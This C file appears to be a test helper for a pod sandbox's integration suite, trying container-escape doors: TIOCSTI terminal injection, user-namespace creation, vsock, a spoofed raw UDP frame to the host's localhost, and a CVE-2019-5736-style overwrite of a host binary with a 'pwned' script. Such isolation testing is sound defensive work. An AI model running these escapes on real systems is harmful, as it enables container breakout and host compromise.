/*
 * The escape attempts of tests/integration/test_host_doors.py, run as an app (or an entered
 * command) inside a pod: each sub-command tries one door and prints what the kernel answered,
 * as "<name>: ok" or "<name>: <errno text>", exiting 0 when it got in and 1 when it did not.
 * Built static by the tests (the pods' images have no libc).
 *
 *   attacker tiocsti TEXT         push TEXT and a newline into the terminal on 0, 1, 2 and
 *                                 /dev/tty
 *   attacker userns               clone(CLONE_NEWUSER) and clone3(); unshare(CLONE_NEWUSER)
 *   attacker vsock                socket(AF_VSOCK)
 *   attacker rawudp IF PORT TEXT  a raw UDP frame from interface IF to 127.0.0.1:PORT, sent
 *                                 to the MAC of IF's default gateway (the host's end)
 *   attacker marker IF PORT       a plain datagram to IF's gateway address, PORT
 *   attacker exewatch NAME OUT    wait for a process whose exe link names NAME, hold its exe
 *                                 O_PATH, then try to open it for writing once it has exited
 *                                 (CVE-2019-5736); the outcome goes to OUT
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif
#ifndef SYS_clone3
#define SYS_clone3 435
#endif

static int report(const char *name, int rc)
{
	if (rc < 0) {
		printf("%s: %s\n", name, strerror(errno));
		return 1;
	}
	printf("%s: ok\n", name);
	return 0;
}

static int tiocsti(const char *text)
{
	int fds[4] = {0, 1, 2, -1}, got_in = 0;
	fds[3] = open("/dev/tty", O_RDWR | O_NOCTTY);
	if (fds[3] < 0)
		printf("open /dev/tty: %s\n", strerror(errno));
	for (int i = 0; i < 4; i++) {
		char name[32];
		int rc = 0;
		if (fds[i] < 0 || !isatty(fds[i]))
			continue;
		snprintf(name, sizeof name, "tiocsti fd %d", i);
		for (const char *c = text; *c && rc == 0; c++)
			rc = ioctl(fds[i], TIOCSTI, c);
		if (rc == 0)
			rc = ioctl(fds[i], TIOCSTI, "\n");
		got_in |= report(name, rc) == 0;
	}
	fflush(stdout);
	return got_in ? 0 : 1;
}

static int child(void *arg)
{
	(void)arg;
	return 0;
}

/* Each attempt in a child of its own: a filter may kill the caller (SIGSYS). */
static int attempt(const char *name, int which)
{
	static char stack[65536];
	pid_t tester = fork();
	if (tester == 0) {
		long rc = 0;
		unsigned long long args[11] = {0};
		switch (which) {
		case 0:
			rc = clone(child, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, NULL);
			break;
		case 1:
			args[0] = CLONE_NEWUSER; /* flags */
			args[4] = SIGCHLD;	 /* exit_signal */
			rc = syscall(SYS_clone3, args, sizeof args);
			if (rc == 0)
				_exit(0);
			break;
		default:
			rc = unshare(CLONE_NEWUSER);
		}
		if (rc > 0)
			waitpid((pid_t)rc, NULL, 0);
		_exit(report(name, rc < 0 ? -1 : 0));
	}
	int status = 0;
	waitpid(tester, &status, 0);
	if (WIFSIGNALED(status)) {
		printf("%s: killed by signal %d\n", name, WTERMSIG(status));
		return 1;
	}
	return WEXITSTATUS(status);
}

static int userns(void)
{
	int got_in = 0;
	got_in |= attempt("clone newuser", 0) == 0;
	got_in |= attempt("clone3 newuser", 1) == 0;
	got_in |= attempt("unshare newuser", 2) == 0;
	return got_in ? 0 : 1;
}

static int vsock(void)
{
	return report("vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
}

static unsigned short checksum(const void *data, size_t len)
{
	const unsigned char *p = data;
	unsigned long sum = 0;
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (unsigned long)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (unsigned long)(p[len - 1] << 8);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((unsigned short)~sum);
}

/* The gateway's MAC from the neighbour table (the pod pinged it first). */
static int gateway_mac(const char *ifname, unsigned char mac[6])
{
	FILE *f = fopen("/proc/net/arp", "r");
	char line[256];
	if (!f)
		return -1;
	while (fgets(line, sizeof line, f)) {
		char ip[64], hw[64], dev[64];
		unsigned int m[6];
		if (sscanf(line, "%63s %*s %*s %63s %*s %63s", ip, hw, dev) != 3)
			continue;
		if (strcmp(dev, ifname) != 0 ||
		    sscanf(hw, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6)
			continue;
		for (int i = 0; i < 6; i++)
			mac[i] = (unsigned char)m[i];
		fclose(f);
		return 0;
	}
	fclose(f);
	errno = ENOENT;
	return -1;
}

static int rawudp(const char *ifname, int port, const char *text)
{
	unsigned char frame[1500] = {0}, dst[6];
	struct ether_header *eth = (void *)frame;
	struct iphdr *ip = (void *)(frame + sizeof *eth);
	struct udphdr *udp = (void *)(frame + sizeof *eth + sizeof *ip);
	size_t len = strlen(text);
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
	if (fd < 0)
		return report("packet socket", fd);
	struct ifreq ifr = {0};
	snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", ifname);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0)
		return report("SIOCGIFHWADDR", -1);
	if (gateway_mac(ifname, dst) < 0)
		return report("gateway mac", -1);
	struct ifreq addr = {0};
	snprintf(addr.ifr_name, sizeof addr.ifr_name, "%s", ifname);
	addr.ifr_addr.sa_family = AF_INET;
	if (ioctl(fd, SIOCGIFADDR, &addr) < 0)
		return report("SIOCGIFADDR", -1);
	memcpy(eth->ether_dhost, dst, 6);
	memcpy(eth->ether_shost, ifr.ifr_hwaddr.sa_data, 6);
	eth->ether_type = htons(ETH_P_IP);
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((unsigned short)(sizeof *ip + sizeof *udp + len));
	/* From the pod's own address, which passes the host's reverse path filter. */
	ip->saddr = ((struct sockaddr_in *)&addr.ifr_addr)->sin_addr.s_addr;
	ip->daddr = inet_addr("127.0.0.1");
	ip->check = checksum(ip, sizeof *ip);
	udp->source = htons(40000);
	udp->dest = htons((unsigned short)port);
	udp->len = htons((unsigned short)(sizeof *udp + len));
	memcpy((char *)udp + sizeof *udp, text, len);
	struct sockaddr_ll to = {0};
	to.sll_family = AF_PACKET;
	to.sll_ifindex = (int)if_nametoindex(ifname);
	to.sll_halen = 6;
	memcpy(to.sll_addr, dst, 6);
	size_t total = sizeof *eth + sizeof *ip + sizeof *udp + len;
	int rc = 0;
	for (int i = 0; i < 5 && rc >= 0; i++) /* a few: UDP may be dropped on the way */
		rc = (int)sendto(fd, frame, total, 0, (struct sockaddr *)&to, sizeof to);
	return report("rawudp sent", rc);
}

/* A plain datagram to the gateway's address (after the raw frames, on the same path). */
static int marker(const char *ifname, int port)
{
	FILE *f = fopen("/proc/net/arp", "r");
	char line[256], ip[64] = "";
	while (f && fgets(line, sizeof line, f)) {
		char addr[64], dev[64];
		if (sscanf(line, "%63s %*s %*s %*s %*s %63s", addr, dev) == 2 && strcmp(dev, ifname) == 0)
			snprintf(ip, sizeof ip, "%s", addr);
	}
	if (f)
		fclose(f);
	struct sockaddr_in to = {0};
	to.sin_family = AF_INET;
	to.sin_port = htons((unsigned short)port);
	if (inet_pton(AF_INET, ip, &to.sin_addr) != 1)
		return report("marker address", -1);
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	return report("marker sent", (int)sendto(fd, "MARK\n", 5, 0, (struct sockaddr *)&to, sizeof to));
}

static int exewatch(const char *name, const char *out)
{
	int held = -1;
	for (int round = 0; round < 6000 && held < 0; round++) { /* 60 s */
		DIR *proc = opendir("/proc");
		struct dirent *e;
		while (proc && (e = readdir(proc)) && held < 0) {
			char link[300], target[4096];
			ssize_t n;
			if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			snprintf(link, sizeof link, "/proc/%s/exe", e->d_name);
			n = readlink(link, target, sizeof target - 1);
			if (n <= 0)
				continue;
			target[n] = 0;
			if (strstr(target, name))
				held = open(link, O_PATH);
		}
		if (proc)
			closedir(proc);
		if (held < 0)
			usleep(10000);
	}
	FILE *f = fopen(out, "w");
	if (!f)
		return 1;
	if (held < 0) {
		fprintf(f, "never saw it\n");
		fclose(f);
		return 1;
	}
	char path[64], target[4096] = "";
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	ssize_t n = readlink(path, target, sizeof target - 1);
	if (n > 0)
		target[n] = 0;
	fprintf(f, "held %s\n", target);
	fflush(f);
	int fd = -1, err = 0;
	for (int round = 0; round < 3000 && fd < 0; round++) { /* 30 s */
		fd = open(path, O_WRONLY | O_TRUNC);
		err = errno;
		if (fd < 0 && err != ETXTBSY)
			break;
		if (fd < 0)
			usleep(10000);
	}
	if (fd < 0) {
		fprintf(f, "write: %s\n", strerror(err));
		fclose(f);
		return 1;
	}
	if (write(fd, "#!/bin/sh\necho pwned\n", 21) < 0)
		fprintf(f, "write: %s\n", strerror(errno));
	else
		fprintf(f, "write: ok\n");
	fclose(f);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 3 && strcmp(argv[1], "tiocsti") == 0)
		return tiocsti(argv[2]);
	if (argc >= 2 && strcmp(argv[1], "userns") == 0)
		return userns();
	if (argc >= 2 && strcmp(argv[1], "vsock") == 0)
		return vsock();
	if (argc >= 5 && strcmp(argv[1], "rawudp") == 0)
		return rawudp(argv[2], atoi(argv[3]), argv[4]);
	if (argc >= 4 && strcmp(argv[1], "marker") == 0)
		return marker(argv[2], atoi(argv[3]));
	if (argc >= 4 && strcmp(argv[1], "exewatch") == 0)
		return exewatch(argv[2], argv[3]);
	fprintf(stderr, "usage: attacker tiocsti|userns|vsock|rawudp|marker|exewatch ...\n");
	return 2;
}
